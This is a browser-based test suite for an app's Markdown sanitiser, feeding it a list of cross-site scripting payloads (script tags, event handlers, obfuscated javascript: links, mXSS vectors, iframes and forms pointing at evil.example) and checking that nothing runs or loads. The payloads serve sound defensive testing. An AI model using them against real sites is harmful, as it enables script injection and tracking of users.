// Lesson and pack Markdown against hostile input, sanitised in a real browser (a sanitiser is
// only as good as the HTML parser under it, so these run in Chromium through playwright-core,
// not in a DOM imitation). markdown.ts is bundled with esbuild and loaded into a page that has
// the app's Content-Security-Policy; each output is checked element by element, then all of it
// is put into the page, which must run nothing and report no policy violation.
// Without Chromium the suite is skipped with a note (CI has it: the e2e tests need it too).
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../../src/ui/content-security-policy';

const CHROMIUM = [process.env.CHROMIUM_PATH, '/usr/lib/chromium/chromium', '/usr/bin/chromium'].find((p): p is string => !!p && existsSync(p));
const ORIGIN = 'http://photon.test';
if (!CHROMIUM) {
  if (process.env.CI) throw new Error('markdown.test.ts needs Chromium (apt-get install -y chromium, or CHROMIUM_PATH)');
  console.warn('markdown.test.ts: no Chromium here (apt-get install -y chromium): the sanitiser tests are skipped');
}

/** What the page reports about one rendered piece of Markdown. */
interface Rendered {
  html: string;
  problems: string[];
  links: { href: string; target: string | null; rel: string | null; text: string }[];
  images: string[];
  codeClasses: string[];
}

const HOSTILE: [string, string][] = [
  ['script tag', '<script>window.__pwned = "script"</script>hello'],
  ['script in Markdown paragraph', 'text <script src="https://evil.example/x.js"></script> more'],
  ['img onerror', '<img src="x" onerror="window.__pwned = \'onerror\'">'],
  ['on* handlers on harmless tags', '<p onclick="window.__pwned=1" onmouseover="window.__pwned=1">p</p><details open ontoggle="window.__pwned=\'toggle\'">d</details>'],
  ['javascript: Markdown link', '[click](javascript:window.__pwned=3)'],
  ['javascript: mixed case and padding', '[a](JaVaScRiPt:alert(1)) [b]( javascript:alert(1) ) <a href=" javascript:alert(1)">c</a>'],
  ['javascript: with entities and tabs', '<a href="jav&#x09;ascript:alert(1)">a</a><a href="jav&#x0A;ascript:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a>'],
  ['vbscript: and data: links', '<a href="vbscript:msgbox(1)">v</a> [d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href="data:text/html,<script>alert(1)</script>">e</a>'],
  ['reference-style javascript: link', '[x][evil]\n\n[evil]: javascript:alert(1)'],
  ['autolink javascript:', '<javascript:alert(1)>'],
  ['svg with script and onload', '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svgscript"</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>">'],
  ['iframes', '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe><frameset><frame src="x"></frameset>'],
  ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
  ['style injection', '<style>body{display:none}</style><div style="position:fixed;inset:0;background:red">cover</div><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['forms', '<form action="https://evil.example/"><input name="q" value="x"><button formaction="https://evil.example/">go</button><textarea>t</textarea><select><option>o</option></select></form>'],
  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">text'],
  ['media and tracking attributes', '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio><table background="https://evil.example/bg.png"><tr><td>t</td></tr></table><img src="/ok.png" srcset="https://evil.example/big.png 2x">'],
  ['external images', '![tracker](https://tracker.example/pixel.gif) <img src="//tracker.example/p.gif" alt="pixel">'],
  ['non-image data: images', '<img src="data:text/html,<script>alert(1)</script>" alt="html"> ![svgscript](data:text/html;base64,PHNjcmlwdD4=)'],
  ['DOM clobbering and spoofed classes', '<div id="__photon" name="app">clobber</div><form name="getElementById"></form><p class="run codeblock">fake Run</p><a class="panel-toggle" href="https://example.com/">spoof</a>'],
  ['templates and slots', '<template><img src=x onerror="window.__pwned=\'template\'"></template><slot>s</slot><dialog open>d</dialog>'],
  ['attribute breakout in code', '```sh" onmouseover="window.__pwned=1\necho hi\n```'],
  ['target and opener games', '<a href="https://example.com/" target="_self" rel="opener">x</a><a href="https://example.com/" ping="https://evil.example/ping">y</a>'],
];

describe.skipIf(!CHROMIUM)('lesson Markdown, sanitised in Chromium', () => {
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    const entry = fileURLToPath(new URL('../../../src/ui/markdown.ts', import.meta.url));
    const bundle = await build({ entryPoints: [entry], bundle: true, format: 'iife', globalName: 'PhotonMarkdown', write: false, platform: 'browser', target: 'es2022' });
    const script = bundle.outputFiles[0]!.text;
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'] });
    page = await browser.newPage();
    // one origin, answered here: the page with the app's policy, its script, and a same-origin image
    await page.route(`${ORIGIN}/**`, async (route) => {
      const path = new URL(route.request().url()).pathname;
      if (path === '/') {
        await route.fulfill({ contentType: 'text/html', body: `<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${CONTENT_SECURITY_POLICY}"><script src="/markdown.js"></script><body><div id="out"></div></body>` });
      } else if (path === '/markdown.js') await route.fulfill({ contentType: 'text/javascript', body: script });
      else if (path === '/ok.png') await route.fulfill({ contentType: 'image/png', body: Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64') });
      else await route.fulfill({ status: 404, body: '' });
    });
    // anything else the page asked for would be a leak: refuse and remember it
    await page.route((url) => !url.href.startsWith(ORIGIN), (route) => {
      void page.evaluate((u) => (window as unknown as { __requests: string[] }).__requests.push(u), route.request().url()).catch(() => {});
      return route.abort();
    });
    await page.addInitScript(() => {
      const w = window as unknown as { __violations: string[]; __requests: string[] };
      w.__violations = [];
      w.__requests = [];
      addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`), true);
    });
    await page.goto(`${ORIGIN}/`);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
  });

  /** Renders `source` and inspects the result in an inert template (nothing runs there). */
  const render = (source: string): Promise<Rendered> =>
    page.evaluate((src) => {
      const md = (window as unknown as { PhotonMarkdown: typeof import('../../../src/ui/markdown') }).PhotonMarkdown;
      const html = md.renderMarkdown(src);
      const t = document.createElement('template');
      t.innerHTML = html;
      const problems: string[] = [];
      const banned = /^(script|style|link|meta|base|iframe|frame|frameset|object|embed|form|input|button|textarea|select|option|svg|math|video|audio|source|track|picture|canvas|template|slot|dialog|noscript|title)$/i;
      const links: Rendered['links'] = [];
      const images: string[] = [];
      const codeClasses: string[] = [];
      for (const el of t.content.querySelectorAll('*')) {
        const tag = el.tagName.toLowerCase();
        if (banned.test(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`<${tag}> (${el.namespaceURI})`);
        for (const a of el.attributes) {
          const name = a.name.toLowerCase();
          if (/javascript:|vbscript:|data:text|evil\.example/i.test(a.value)) problems.push(`${tag}[${name}=${a.value}]`);
          if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
          if (['style', 'id', 'name', 'srcset', 'background', 'poster', 'action', 'formaction', 'xlink:href', 'ping', 'srcdoc'].includes(name)) problems.push(`${tag}[${name}]`);
          if (name === 'class' && !(tag === 'code' && /^language-[\w+#.-]+$/.test(a.value))) problems.push(`${tag}[class=${a.value}]`);
        }
        if (tag === 'a' && el.hasAttribute('href')) {
          const href = new URL(el.getAttribute('href')!, location.href).href;
          if (!/^(https?|mailto):/i.test(href)) problems.push(`a[href=${href}]`);
          links.push({ href, target: el.getAttribute('target'), rel: el.getAttribute('rel'), text: el.textContent ?? '' });
        }
        if (tag === 'img') {
          const src = el.getAttribute('src') ? new URL(el.getAttribute('src')!, location.href).href : '';
          if (!(src.startsWith(`${location.origin}/`) || /^data:image\/(png|gif|jpeg|webp|avif|svg\+xml)[;,]/i.test(src))) problems.push(`img[src=${src}]`);
          images.push(src);
        }
        if (tag === 'code' && el.getAttribute('class')) codeClasses.push(el.getAttribute('class')!);
      }
      return { html, problems, links, images, codeClasses };
    }, source);

  it.each(HOSTILE)('%s: nothing executable, styled or loaded from elsewhere survives', async (_name, source) => {
    const r = await render(source);
    expect(r.problems, r.html).toEqual([]);
    // (the text of a dropped link may still say javascript:, as text)
    expect(r.html).not.toMatch(/<script|<style|<iframe|<svg|<math|\son\w+=|srcdoc/i);
    for (const l of r.links) expect([l.target, l.rel]).toEqual(['_blank', 'noopener noreferrer']);
  });

  it('keeps ordinary lesson Markdown: headings, emphasis, lists, tables, code with its language, links', async () => {
    const r = await render('# Title\n\nSome *text* and **bold** with `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\nls -l /etc\n```\n\nSee [the docs](https://vmware.github.io/photon/) or mail [us](mailto:teacher@example.com).');
    expect(r.problems).toEqual([]);
    expect(r.html).toContain('<h1>Title</h1>');
    expect(r.html).toContain('<em>text</em>');
    expect(r.html).toContain('<table>');
    expect(r.codeClasses).toEqual(['language-sh']);
    expect(r.links).toEqual([
      { href: 'https://vmware.github.io/photon/', target: '_blank', rel: 'noopener noreferrer', text: 'the docs' },
      { href: 'mailto:teacher@example.com', target: '_blank', rel: 'noopener noreferrer', text: 'us' },
    ]);
  });

  it('keeps images from the app itself and data:image ones; an image from elsewhere becomes a link to it', async () => {
    const r = await render('![logo](/ok.png) ![dot](data:image/png;base64,iVBORw0KGgo=) ![tracker](https://tracker.example/pixel.gif)');
    expect(r.problems).toEqual([]);
    expect(r.images).toEqual([`${ORIGIN}/ok.png`, 'data:image/png;base64,iVBORw0KGgo=']);
    expect(r.links).toEqual([{ href: 'https://tracker.example/pixel.gif', target: '_blank', rel: 'noopener noreferrer', text: 'tracker' }]);
  });

  it('drops control characters from a Run button\'s command but keeps tabs', async () => {
    const commands = await page.evaluate(() => {
      const md = (window as unknown as { PhotonMarkdown: typeof import('../../../src/ui/markdown') }).PhotonMarkdown;
      const box = document.createElement('div');
      box.innerHTML = md.renderMarkdown('```sh\necho a\x1b[2J\x03b\ncat <<-EOF\n\tx\nEOF\n```\n\n```console\n$ echo \x07ok\nok\n```');
      return [...box.querySelectorAll('code')].map((c) => md.commandOf(c));
    });
    expect(commands).toEqual(['echo a[2Jb\ncat <<-EOF\n\tx\nEOF', 'echo ok']);
  });

  it('all of it, put into the page under the app\'s policy, runs nothing, loads nothing from elsewhere and violates nothing', async () => {
    const outcome = await page.evaluate(async (sources) => {
      const w = window as unknown as { PhotonMarkdown: typeof import('../../../src/ui/markdown'); __pwned?: unknown; __violations: string[]; __requests: string[] };
      const out = document.getElementById('out')!;
      w.__violations.length = 0;
      const html = sources.map((s) => w.PhotonMarkdown.renderMarkdown(s));
      // (violation events arrive in a later task)
      await new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)));
      // the browser reports style="" and (since Chromium 156) on* attributes as it parses them,
      // even in an inert document: the raw HTML loses them before it is parsed
      const whileSanitising = w.__violations.splice(0);
      for (const h of html) {
        const div = document.createElement('div');
        div.innerHTML = h;
        out.append(div);
      }
      // every image has loaded or failed, and a task later any handler would have run
      await Promise.all(
        [...out.querySelectorAll('img')].map((img) =>
          img.complete
            ? undefined
            : new Promise((r) => {
                img.addEventListener('load', r, { once: true });
                img.addEventListener('error', r, { once: true });
              }),
        ),
      );
      await new Promise((r) => setTimeout(r, 0));
      for (const el of out.querySelectorAll('details')) el.toggleAttribute('open');
      await new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)));
      return { pwned: w.__pwned ?? null, whileSanitising, violations: w.__violations, requests: w.__requests, shown: out.textContent?.length ?? 0 };
    }, HOSTILE.map(([, s]) => s));
    expect(outcome.shown).toBeGreaterThan(0);
    expect(outcome).toEqual({ pwned: null, whileSanitising: [], violations: [], requests: [], shown: outcome.shown });
  });
});
